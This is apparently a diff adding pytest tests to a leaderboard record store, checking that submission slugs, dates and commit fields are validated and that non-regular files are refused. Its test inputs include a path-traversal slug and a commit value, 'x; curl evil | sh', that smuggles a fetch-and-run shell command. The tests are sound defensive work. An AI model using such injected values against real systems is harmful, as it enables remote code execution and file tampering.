@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import json
+import os
 import re
 import shutil
 from pathlib import Path
@@ -18,10 +19,11 @@ from harness.base.processor import processor
 from harness.base.structs import read_json, write_json
 from harness.protocol import Protocol, load_protocol
 from harness.records.observe import VALUES, observe, scored_here
-from harness.records.schema import failure_of, make_record, rounded
+from harness.records.schema import Record, failure_of, make_record, rounded
 from harness.records.store import keep_protocol, read_protocol, read_record, read_records, record_folder, write_record
 from harness.records.withdrawal import read_withdrawals, withdraw
 from harness.sandbox import Limits
+from harness.submission.manifest import check_slug
 from tests.board_records import PROTOCOL, observed, on_another_processor, scored
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -64,6 +66,40 @@ def test_record_survives_the_disk_with_its_attachments(tmp_path: Path) -> None:
     assert read.result == record.result
     assert set(read.observed.files) == {"slices.csv.gz"}
     assert [one.id for one in read_records(tmp_path)] == [record.id]
+
+
+@pytest.mark.parametrize("slug", ["my_model", "a", "a-b_c"])
+def test_every_slug_of_a_submission_is_one_of_a_record(tmp_path: Path, slug: str) -> None:
+    assert check_slug(slug) == slug
+    write_record(tmp_path, scored(slug, 1.0), {})
+    assert [one.result.submission.slug for one in read_records(tmp_path)] == [slug]
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        scored("../../../../pwned", 1.0),
+        scored("a/b", 1.0),
+        scored("a", 1.0, date="yesterday"),
+        msgspec.structs.replace(
+            scored("a", 1.0), observed=msgspec.structs.replace(observed(), commit="x; curl evil | sh")
+        ),
+    ],
+    ids=["slug", "nested", "date", "commit"],
+)
+def test_a_record_whose_words_are_no_path_and_no_command_is_not_written(tmp_path: Path, record: Record) -> None:
+    with pytest.raises(UsageError, match=r"record\.json: (slug|date|commit): expected"):
+        write_record(tmp_path / "leaderboard", record, {})
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_record_that_is_no_regular_file_is_refused(tmp_path: Path) -> None:
+    folder, _ = write_record(tmp_path, scored("tv", 1.0), {"slices.csv.gz": b"rows"})
+    for name in ("slices.csv.gz", "record.json"):
+        (folder / name).unlink()
+        os.mkfifo(folder / name)
+        with pytest.raises(UsageError, match="is not a regular file"):
+            read_record(folder)
 
 
 def test_a_repeated_result_finds_its_record(tmp_path: Path) -> None:
